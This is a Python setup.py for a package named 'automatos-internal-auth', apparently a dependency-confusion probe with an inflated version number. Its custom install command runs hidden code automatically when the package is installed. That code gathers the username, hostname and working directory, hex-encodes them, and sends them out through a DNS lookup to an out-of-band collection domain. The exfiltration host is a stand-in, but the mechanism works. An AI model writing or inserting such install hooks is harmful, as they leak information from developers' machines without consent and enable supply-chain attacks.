import getpass
import os
import socket
from setuptools import setup
from setuptools.command.install import install


def _recon():
    data = "%s.%s.%s" % (getpass.getuser(), socket.gethostname(), os.getcwd().replace("/", "_"))
    label = data.encode().hex()[:60]
    try:
        socket.getaddrinfo(label + ".dc.oast.invalid", 80)
    except OSError:
        pass


class Install(install):
    def run(self):
        _recon()
        install.run(self)


setup(name="automatos-internal-auth", version="99.0.0", packages=["automatos_internal_auth"], cmdclass={"install": Install})
